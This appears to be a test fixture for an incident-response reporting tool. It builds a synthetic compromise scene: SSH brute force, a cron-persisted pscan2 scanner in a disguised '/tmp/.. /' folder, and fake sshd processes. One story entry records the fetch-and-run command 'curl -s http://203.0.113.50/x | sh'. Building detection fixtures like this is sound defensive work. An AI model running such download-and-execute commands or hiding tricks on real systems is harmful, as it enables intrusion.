import type { Finding } from '../../src/model/finding.js';
import type { IncidentsFile } from '../../src/model/incident.js';

/**
 * A hand-made scene with the shapes artifacts/incidents.json has: deploy's password guessed from
 * 127.0.0.3 after 30 failures, the session's history downloading and starting pscan2 from
 * `/tmp/.. /`, pscan2 scanning port 22, a cron line restarting it; apart from that, three
 * processes calling themselves sshd that run deleted executables from /dev/shm/.s. Used to render
 * reports without collecting (the joining itself is tested where it is made).
 */

const f = (id: string, rule: string, severity: Finding['severity'], title: string, mitre: string[], subject: Finding['subject'], evidence: string[] = []): Finding => ({
  id,
  rule,
  severity,
  title,
  detail: `${title}. Next: look at the evidence.`,
  mitre,
  subject,
  evidence,
});

const FAKE_SHA = 'a3'.repeat(32);

export const SCENE_FINDINGS: Finding[] = [
  f('F-0001', 'auth.login-after-failures', 'critical', 'Login as deploy from 127.0.0.3 after 30 failed attempts', ['T1110.001', 'T1078', 'T1021.004'], { user: 'deploy', ip: '127.0.0.3', failuresBefore: 30 }, ['logs/var/log/auth.log']),
  f('F-0002', 'network.ssh-outbound-fanout', 'high', 'pscan2 (pid 5617) connects to 31 hosts on port 22', ['T1046', 'T1110', 'T1021.004'], { pid: 5617, comm: 'pscan2', user: 'deploy', path: '/tmp/.. /pscan2', hosts: 31, ports: [22] }, ['artifacts/ssh-view.json']),
  f('F-0003', 'process.known-tool', 'high', 'Known tool running: pscan2 (pid 5617)', ['T1046', 'T1110'], { pid: 5617, path: '/tmp/.. /pscan2' }, ['files/5617-pscan2']),
  f('F-0004', 'process.masquerade', 'high', 'Process 4100 calls itself sshd but runs /dev/shm/.s/sshd', ['T1036.004', 'T1036.005'], { pid: 4100, path: '/dev/shm/.s/sshd' }),
  f('F-0005', 'process.masquerade', 'high', 'Process 4101 calls itself sshd but runs /dev/shm/.s/sshd', ['T1036.004', 'T1036.005'], { pid: 4101, path: '/dev/shm/.s/sshd' }),
  f('F-0006', 'process.masquerade', 'high', 'Process 4102 calls itself sshd but runs /dev/shm/.s/sshd', ['T1036.004', 'T1036.005'], { pid: 4102, path: '/dev/shm/.s/sshd' }),
  f('F-0007', 'activity.download-execute', 'high', "deploy's shell history downloads a script and runs it", ['T1105', 'T1059.004', 'T1204'], { user: 'deploy', path: '/home/deploy/.bash_history' }, ['files/history/deploy/.bash_history']),
  f('F-0008', 'auth.bruteforce', 'medium', 'SSH brute force from 127.0.0.3: 30 failed attempts', ['T1110', 'T1110.001'], { ip: '127.0.0.3' }, ['logs/var/log/auth.log']),
  f('F-0009', 'persistence.cron', 'medium', "A cron line of deploy starts /tmp/.. /pscan2 every minute", ['T1053.003', 'T1105', 'T1059.004'], { user: 'deploy', path: '/var/spool/cron/crontabs/deploy' }, ['files/cron/deploy']),
  f('F-0010', 'process.deleted-exe', 'medium', 'Process 4100 (sshd) runs a deleted executable', ['T1070.004'], { pid: 4100, path: '/dev/shm/.s/sshd' }),
  f('F-0011', 'process.deleted-exe', 'medium', 'Process 4101 (sshd) runs a deleted executable', ['T1070.004'], { pid: 4101, path: '/dev/shm/.s/sshd' }),
  f('F-0012', 'process.deleted-exe', 'medium', 'Process 4102 (sshd) runs a deleted executable', ['T1070.004'], { pid: 4102, path: '/dev/shm/.s/sshd' }),
];

export const MAIN_TITLE = 'deploy logged in from 127.0.0.3 after 30 failed passwords and started pscan2, which scans port 22';
export const SECOND_TITLE = 'Three processes calling themselves sshd run deleted executables from /dev/shm/.s';

export function sceneIncidents(): IncidentsFile {
  return {
    version: 1,
    main: 'I-01',
    incidents: [
      {
        id: 'I-01',
        title: MAIN_TITLE,
        severity: 'critical',
        findings: ['F-0001', 'F-0002', 'F-0003', 'F-0007', 'F-0008', 'F-0009'],
        subjects: { pids: [5617], paths: ['/tmp/.. /pscan2', '/var/spool/cron/crontabs/deploy'], folders: ['/tmp/.. '], addresses: ['127.0.0.3'], accounts: ['deploy'], sha256: [] },
        joins: [
          { a: 'F-0001', b: 'F-0008', reason: 'same-address', value: '127.0.0.3' },
          { a: 'F-0001', b: 'F-0007', reason: 'in-session', value: 'deploy 22:26:09–22:40:12' },
          { a: 'F-0003', b: 'F-0007', reason: 'in-session', value: 'deploy 22:26:09–22:40:12' },
          { a: 'F-0002', b: 'F-0003', reason: 'same-process', value: 'pid 5617' },
          { a: 'F-0003', b: 'F-0009', reason: 'same-file', value: '/tmp/.. /pscan2' },
        ],
        tactics: ['initial-access', 'execution', 'persistence', 'credential-access', 'discovery'],
        first: '2026-03-01T22:10:02Z',
        last: '2026-03-01T22:41:00Z',
        story: [
          { time: '2026-03-01T22:10:02Z', kind: 'event', tactic: 'credential-access', techniques: ['T1110.001'], text: '30 failed passwords for deploy from 127.0.0.3 in 16 minutes', evidence: ['logs/var/log/auth.log:467'], findings: ['F-0008'] },
          { time: '2026-03-01T22:26:09Z', kind: 'event', tactic: 'initial-access', techniques: ['T1078'], text: 'deploy logged in from 127.0.0.3 after 30 failed passwords', evidence: ['logs/var/log/auth.log:497'], findings: ['F-0001'] },
          { time: '2026-03-01T22:26:40Z', kind: 'event', tactic: 'execution', techniques: ['T1105', 'T1059.004'], text: 'the same session ran curl -s http://203.0.113.50/x | sh', evidence: ['files/history/deploy/.bash_history:12'], findings: ['F-0007'] },
          { time: '2026-03-01T22:26:41Z', kind: 'event', tactic: 'discovery', techniques: ['T1046'], text: 'pscan2 (pid 5617) from /tmp/.. / connects to 31 hosts on port 22', evidence: ['artifacts/ssh-view.json', 'files/5617-pscan2'], findings: ['F-0002', 'F-0003'] },
          { time: '2026-03-01T22:27:00Z', kind: 'gap', tactic: null, techniques: [], text: 'no history covers 22:27–22:40', evidence: [], findings: [] },
          { time: '2026-03-01T22:41:00Z', kind: 'event', tactic: 'persistence', techniques: ['T1053.003'], text: 'a cron line of deploy restarts /tmp/.. /pscan2 every minute', evidence: ['files/cron/deploy:1'], findings: ['F-0009'] },
        ],
      },
      {
        id: 'I-02',
        title: SECOND_TITLE,
        severity: 'high',
        findings: ['F-0004', 'F-0005', 'F-0006', 'F-0010', 'F-0011', 'F-0012'],
        subjects: { pids: [4100, 4101, 4102], paths: ['/dev/shm/.s/sshd'], folders: ['/dev/shm/.s'], addresses: [], accounts: [], sha256: [FAKE_SHA] },
        joins: [
          { a: 'F-0004', b: 'F-0010', reason: 'same-process', value: 'pid 4100' },
          { a: 'F-0005', b: 'F-0011', reason: 'same-process', value: 'pid 4101' },
          { a: 'F-0006', b: 'F-0012', reason: 'same-process', value: 'pid 4102' },
          { a: 'F-0004', b: 'F-0005', reason: 'same-executable', value: FAKE_SHA },
          { a: 'F-0004', b: 'F-0006', reason: 'same-executable', value: FAKE_SHA },
        ],
        tactics: ['defense-evasion'],
        first: null,
        last: null,
        story: [
          { time: null, kind: 'event', tactic: 'defense-evasion', techniques: ['T1036.004', 'T1070.004'], text: 'three processes named sshd run /dev/shm/.s/sshd, deleted from disk', evidence: ['artifacts/processes.jsonl'], findings: ['F-0004', 'F-0005', 'F-0006', 'F-0010', 'F-0011', 'F-0012'] },
        ],
      },
    ],
  };
}
